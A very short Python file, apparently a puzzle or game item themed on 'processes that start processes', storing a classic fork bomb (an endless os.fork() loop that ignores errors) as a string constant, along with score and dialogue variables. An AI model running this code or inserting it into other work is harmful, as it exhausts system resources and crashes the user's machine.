"""Processes that start processes."""

FIRST = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
POINTS = 0
SAID = "It "
